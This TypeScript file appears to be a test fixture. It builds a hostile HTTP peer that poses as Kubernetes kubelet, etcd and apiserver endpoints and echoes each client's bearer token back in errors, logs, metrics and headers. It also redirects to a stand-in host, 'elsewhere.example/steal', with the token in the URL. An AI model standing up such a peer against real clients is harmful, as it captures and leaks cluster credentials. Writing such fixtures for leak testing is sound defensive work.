// A peer that hands back everything it was sent: the request line, every header (the Authorization header with
// them) and the body, raw, with the bearer token alone again, raw, base64- and URL-encoded. It puts the echo where each client
// looks: a kubelet's 403 (so the hunt names it a kubelet), a failing healthz, configz, logs, a metrics HELP text, an
// etcd health reason, an apiserver 401, a redirect's Location and response headers.
import type { IncomingMessage, ServerResponse } from 'node:http';

function heard(req: IncomingMessage, body: string): string {
  const lines = [`${req.method} ${req.url} HTTP/${req.httpVersion}`];
  for (let i = 0; i < req.rawHeaders.length; i += 2) lines.push(`${req.rawHeaders[i]}: ${req.rawHeaders[i + 1]}`);
  const bearer = /^Bearer (.+)$/i.exec(req.headers.authorization ?? '')?.[1];
  if (bearer) {
    lines.push(`token raw=${bearer} base64=${Buffer.from(bearer).toString('base64')} base64url=${Buffer.from(bearer).toString('base64url')} url=${encodeURIComponent(bearer)}`);
  }
  if (body) lines.push('', body);
  return lines.join('\n');
}

/** Header-safe: one line of printable ASCII. */
const oneLine = (text: string) => text.replace(/[\r\n]+/g, ' | ').replace(/[^\x20-\x7e]/g, '?');

function answer(req: IncomingMessage, res: ServerResponse, echo: string): void {
  const path = (req.url ?? '/').split('?')[0] ?? '/';
  const line = oneLine(echo);
  const bearer = /^Bearer (.+)$/i.exec(req.headers.authorization ?? '')?.[1] ?? '';
  const headers = { 'X-Echo': line, 'WWW-Authenticate': `Bearer realm="${oneLine(bearer)}"` };
  const send = (status: number, type: string, body: string, extra: Record<string, string> = {}) => {
    res.writeHead(status, { ...headers, ...extra, 'Content-Type': type, 'Content-Length': Buffer.byteLength(body) });
    res.end(body);
  };
  if (path === '/pods') return send(403, 'text/plain; charset=utf-8', `Forbidden (user=${echo}, verb=get, resource=nodes, subresource=proxy)`);
  if (path === '/healthz' || path === '/livez' || path === '/readyz') return send(500, 'text/plain; charset=utf-8', `[+]ping ok\n[-]echo failed: ${echo}\nhealthz check failed\n`);
  if (path === '/configz') return send(200, 'application/json', JSON.stringify({ kubeletconfig: { echo } }));
  if (path.startsWith('/logs')) return send(200, 'text/plain; charset=utf-8', `${echo}\n`);
  if (path === '/metrics') return send(200, 'text/plain; version=0.0.4', `# HELP kia_echo ${line}\n# TYPE kia_echo gauge\nkia_echo{heard="${line.replace(/["\\]/g, '')}"} 1\n`);
  if (path === '/health') return send(200, 'application/json', JSON.stringify({ health: 'false', reason: echo }));
  if (path === '/version' || path.startsWith('/api')) {
    return send(401, 'application/json', JSON.stringify({ kind: 'Status', apiVersion: 'v1', metadata: {}, status: 'Failure', message: `Unauthorized: ${echo}`, reason: 'Unauthorized', code: 401 }));
  }
  return send(302, 'text/plain; charset=utf-8', echo, { Location: `https://elsewhere.example/steal?heard=${encodeURIComponent(echo)}` });
}

/** The request handler of an echoing peer. */
export function echoHandler(req: IncomingMessage, res: ServerResponse): void {
  const chunks: Buffer[] = [];
  let size = 0;
  req.on('data', (c: Buffer) => {
    size += c.length;
    if (size <= 1 << 20) chunks.push(c);
  });
  req.on('end', () => answer(req, res, heard(req, Buffer.concat(chunks).toString('utf8'))));
}
